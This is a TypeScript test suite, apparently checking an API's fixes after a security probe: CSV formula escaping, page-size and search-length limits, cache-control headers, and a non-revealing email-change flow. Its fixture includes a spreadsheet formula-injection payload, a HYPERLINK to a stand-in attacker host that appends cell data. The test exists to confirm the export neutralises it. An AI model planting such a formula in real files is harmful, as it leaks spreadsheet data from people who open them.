/**
 * What an outside security probe found, closed — formulas in CSV exports, unbounded pages and search
 * texts, and caching of signed-in answers.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { beforeAll, expect, it } from 'vitest';
import { call, describeEachEngine, suiteServer } from './harness';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describeEachEngine('security probe', (engine) => {
  const server = suiteServer({ engine, seed: 'small' });
  let admin = '';
  let partner = '';
  let complaintId = 0;

  beforeAll(async () => {
    admin = await server.login('admin@example.com', 'Admin#2026');
    partner = await server.login('partner@example.com', 'Partner#2026');
    const { rows } = await sql<{ id: number }>`select min(id)::int as id from complaints`.execute(server.db);
    complaintId = rows[0].id;
    await sql`update complaints set message = ${FORMULA}, subject = ${'-2+3'} where id = ${complaintId}`.execute(
      server.db,
    );
  });

  it('writes text that a spreadsheet would run as a formula as text, and numbers as numbers', async () => {
    const filter = encodeURIComponent(JSON.stringify({ id: [complaintId] }));
    const fields = encodeURIComponent(JSON.stringify(['id', 'subject', 'message']));
    const response = await fetch(`${server.baseUrl}/api/complaints/-/export.csv?filter=${filter}&fields=${fields}`, {
      headers: { cookie: admin },
    });
    expect(response.status).toBe(200);
    const rows = parse(await response.text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toEqual([{ id: String(complaintId), subject: "'-2+3", message: `'${FORMULA}` }]);
    // The JSON API keeps the text as it was written.
    const record = await call(server, 'GET', `/api/complaints/${complaintId}`, { cookie: admin });
    expect(record.body.message).toBe(FORMULA);
  });

  it('refuses a page over 1,000 rows with the limit in the message (400), and serves 1,000', async () => {
    const big = await call(server, 'GET', `/api/services?range=${encodeURIComponent('[0,1000000]')}`, {
      cookie: admin,
    });
    expect(big.status).toBe(400);
    expect(big.body).toEqual({
      message: 'Page too large: You may request at most 1000 rows at once',
      errors: { range: 'You may request at most 1000 rows at once' },
    });
    const visitor = await call(server, 'GET', `/api/services?range=${encodeURIComponent('[10,1010]')}`);
    expect(visitor.status).toBe(400);
    const most = await call(server, 'GET', `/api/services?range=${encodeURIComponent('[0,999]')}`, { cookie: admin });
    expect(most.status).toBe(200);
    expect(most.headers.get('content-range')).toMatch(/^services 0-\d+\/\d+$/);
  });

  it('refuses a search text over 200 characters (400) and searches one of 200', async () => {
    const filter = (q: string) => `/api/complaints?filter=${encodeURIComponent(JSON.stringify({ q }))}`;
    const long = await call(server, 'GET', filter('a'.repeat(201)), { cookie: admin });
    expect(long.status).toBe(400);
    expect(long.body).toEqual({
      message: 'Search text too long: You must enter a maximum of 200 characters',
      errors: { q: 'You must enter a maximum of 200 characters' },
    });
    const most = await call(server, 'GET', filter('a'.repeat(200)), { cookie: admin });
    expect(most.status).toBe(200);
    expect(most.body).toEqual([]);
  });

  it('states both limits in the OpenAPI document', async () => {
    const doc = (await call(server, 'GET', '/api/openapi.json')).body;
    const parameters = doc.paths['/api/complaints'].get.parameters as any[];
    const filter = parameters.find((p) => p.name === 'filter');
    expect(filter.content['application/json'].schema.properties.q.maxLength).toBe(200);
    const range = parameters.find((p) => p.name === 'range');
    expect(range.description).toContain('at most 1000 rows');
  });

  it('answers a change of one’s own email to a taken address like a change to a free one', async () => {
    const user = await server.login('user@example.com', 'User#2026');
    const me = (await call(server, 'GET', '/api/auth/me', { cookie: user })).body.id;
    const put = (email: string, version: number) =>
      call(server, 'PUT', `/api/users/${me}`, { cookie: user, body: { email, version, currentPassword: 'User#2026' } });
    const start = (await call(server, 'GET', `/api/users/${me}`, { cookie: user })).body;
    const free = await put('user.moved@example.com', start.version);
    expect(free.status).toBe(200);
    // The proved address stays until the new one's link is opened; the new one waits beside it.
    expect(free.body).toMatchObject({
      email: 'user@example.com',
      pendingEmail: 'user.moved@example.com',
      version: start.version + 1,
    });
    // Another account's address, in another case: the same answer and the same record read back, the owner mailed.
    const taken = await put('Partner@Example.com', free.body.version);
    expect(taken.status).toBe(200);
    expect(Object.keys(taken.body).sort()).toEqual(Object.keys(free.body).sort());
    expect(taken.body).toMatchObject({
      email: 'user@example.com',
      pendingEmail: 'partner@example.com',
      version: free.body.version + 1,
    });
    const read = (await call(server, 'GET', `/api/users/${me}`, { cookie: user })).body;
    expect(read).toMatchObject({ email: 'user@example.com', pendingEmail: 'partner@example.com' });
    const stored = await server.db
      .selectFrom('users')
      .select(['email', 'version'])
      .where('id', '=', me)
      .executeTakeFirstOrThrow();
    expect(stored).toEqual({ email: 'user@example.com', version: taken.body.version });
    const mails = await server.db
      .selectFrom('outbox')
      .select(['template', 'params'])
      .where('recipient', '=', 'partner@example.com')
      .execute();
    expect(mails).toEqual([{ template: 'account.emailTaken', params: { via: 'users.update' } }]);
    // An administrator editing someone else's account is still told the address is in use.
    const support = await server.login('support@example.com', 'Admin#2026');
    const refused = await call(server, 'PUT', `/api/users/${me}`, {
      cookie: support,
      body: { email: 'partner@example.com', version: stored.version },
    });
    expect(refused.status).toBe(400);
    expect(refused.body.errors).toEqual({ email: 'This value is already in use' });
  });

  it('answers every request with a session no-store, and a visitor’s catalogue read no-cache', async () => {
    const signedIn: [string, string, string][] = [
      ['GET', '/api/services', admin],
      ['GET', '/api/auth/me', partner],
      ['GET', `/api/partners/999999`, partner],
      ['GET', '/api/orders?range=[0,1000000]', admin],
      ['POST', '/api/tour-types', admin],
      ['GET', '/api/openapi.json', admin],
    ];
    for (const [method, url, cookie] of signedIn) {
      const answer = await call(server, method, url, { cookie, ...(method === 'POST' && { body: {} }) });
      expect(answer.headers.get('cache-control'), `${method} ${url} (${answer.status})`).toBe('no-store');
    }
    // A stale cookie is a request with a session too.
    const stale = await call(server, 'GET', '/api/services', { cookie: 'lantern_session=expired' });
    expect(stale.headers.get('cache-control')).toBe('no-store');
    // Signing in sets a session: never stored.
    const login = await call(server, 'POST', '/api/auth/login', {
      body: { email: 'finance@example.com', password: 'Admin#2026' },
    });
    expect(login.status).toBe(200);
    expect(login.headers.get('cache-control')).toBe('no-store');
    // A visitor's successful read of the public catalogue may be kept, but is checked before each use.
    const catalogue = await call(server, 'GET', '/api/services');
    expect(catalogue.status).toBe(200);
    expect(catalogue.headers.get('cache-control')).toBe('no-cache');
    const refused = await call(server, 'GET', '/api/orders');
    expect(refused.status).toBe(401);
    expect(refused.headers.get('cache-control')).toBe('no-store');
  });
});
